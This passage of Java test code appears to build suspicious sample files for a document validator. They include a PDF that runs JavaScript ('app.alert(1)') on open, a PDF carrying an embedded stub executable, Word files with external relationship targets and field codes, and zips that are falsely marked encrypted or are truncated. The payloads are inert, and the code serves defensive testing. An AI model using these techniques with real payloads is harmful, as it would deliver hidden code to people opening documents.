        String shown = name == null ? "none" : FileName.of(name).shown();
        samples.add(Sample.of("name " + samples.size() + " “" + shown + "”", name, Pdfs::plain, codes));
    }

    private static COSArray list(COSBase... items) {
        COSArray array = new COSArray();
        Arrays.stream(items).forEach(array::add);
        return array;
    }

    private static void streamedScript(PDDocument document) throws Exception {
        COSStream stream = new COSStream();
        try (var out = stream.createOutputStream(COSName.FLATE_DECODE)) {
            out.write(ascii("app.alert(1)"));
        }
        Pdfs.catalog(document).setItem(COSName.OPEN_ACTION, Pdfs.dictionary("S", "JavaScript", "JS", stream));
    }

    private static void embedFile(PDDocument document) throws Exception {
        COSStream stream = new COSStream();
        stream.setName(COSName.TYPE, "EmbeddedFile");
        try (var out = stream.createOutputStream()) {
            out.write(program());
        }
        COSDictionary file = Pdfs.dictionary("Type", "Filespec", "EF", Pdfs.dictionary("F", stream));
        Pdfs.catalog(document)
                .setItem(
                        COSName.NAMES,
                        Pdfs.dictionary("EmbeddedFiles", Pdfs.dictionary("Names", list(new COSString("a"), file))));
    }

    private static void manyPages(PDDocument document) throws Exception {
        HarmlessFiles.pages(document, 40);
    }

    /** Unpacks and reads well; only the checksum tells. */
    private static byte[] pictureChanged() throws Exception {
        Map<String, byte[]> parts = OfficeFiles.parts(docx());
        parts.put("word/media/image1.emf", ascii("x".repeat(5000)));
        byte[] file = OfficeFiles.zip(parts, ZipOutputStream.STORED);
        int picture = new String(file, StandardCharsets.ISO_8859_1).indexOf("x".repeat(100));
        file[picture + 50] = 'y';
        return file;
    }

    private static byte[] xls() throws Exception {
        try (HSSFWorkbook workbook = new HSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("Danh sách");
            workbook.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] pptx() throws Exception {
        try (XMLSlideShow slides = new XMLSlideShow();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            slides.createSlide();
            slides.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] zip() throws Exception {
        return OfficeFiles.zip(Map.of("a.txt", ascii("a")), ZipOutputStream.DEFLATED);
    }

    /** The workbook that a chart keeps its numbers in. */
    private static OfficeFiles.Parts tableOfChart(Callable<byte[]> content) {
        return parts -> {
            for (String name : List.copyOf(parts.keySet())) {
                if (name.endsWith(".xlsx")) {
                    parts.put(name, content.call());
                }
            }
        };
    }

    private static OfficeFiles.Parts add(String type, String target) {
        return relationship("word/_rels/document.xml.rels", type, "Target='" + target + "'");
    }

    private static OfficeFiles.Parts external(String type, String target) {
        return relationship("word/_rels/document.xml.rels", type, "TargetMode='External' Target='" + target + "'");
    }

    private static OfficeFiles.Parts connected(String type) {
        return relationship("xl/worksheets/_rels/sheet1.xml.rels", type, "Target='../a.xml'");
    }

    private static OfficeFiles.Parts relationship(String part, String type, String rest) {
        return put(
                part,
                "<Relationships><Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                        + "relationships/" + type + "' " + rest + "/></Relationships>");
    }

    /** @param runs the code of the field, cut as Word cuts it; braces open and close a field inside */
    private static void field(XWPFDocument document, String... runs) {
        XWPFParagraph paragraph = document.createParagraph();
        paragraph.createRun().getCTR().addNewFldChar().setFldCharType(STFldCharType.BEGIN);
        for (String run : runs) {
            if (run.equals("{") || run.equals("}")) {
                paragraph
                        .createRun()
                        .getCTR()
                        .addNewFldChar()
                        .setFldCharType(run.equals("{") ? STFldCharType.BEGIN : STFldCharType.END);
            } else {
                paragraph.createRun().getCTR().addNewInstrText().setStringValue(run);
            }
        }
        paragraph.createRun().getCTR().addNewFldChar().setFldCharType(STFldCharType.END);
    }

    private static byte[] program() {
        byte[] program = new byte[512];
        program[0] = 'M';
        program[1] = 'Z';
        program[0x3C] = (byte) 0x80;
        program[0x80] = 'P';
        program[0x81] = 'E';
        return program;
    }

    /** Sets the "encrypted" bit of every entry. */
    private static byte[] zipEncrypted(byte[] zip) {
        for (int i = 0; i + 10 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
                zip[i + 8] |= 1;
            } else if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 3 && zip[i + 3] == 4) {
                zip[i + 6] |= 1;
            }
        }
        return zip;
    }

    private static byte[] half(byte[] file) {
        return Arrays.copyOf(file, file.length / 2);
    }

    private static byte[] cut(byte[] file, int missing) {
        return Arrays.copyOf(file, file.length - missing);
    }

    private static byte[] holed(byte[] file) {
        Arrays.fill(file, file.length / 3, file.length / 3 + 60, (byte) 0);
        return file;
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] joined = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }

    private static byte[] noise(int length) {
        byte[] noise = new byte[length];
        new Random(5).nextBytes(noise);
        return noise;
    }

    /** Text that hardly packs, so that its ratio is honest. */
    private static String noiseText(int length) {
        StringBuilder text = new StringBuilder(length);
        Random random = new Random(5);
        for (int i = 0; i < length; i++) {
            text.append((char) ('a' + random.nextInt(26)));
        }
        return text.toString();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
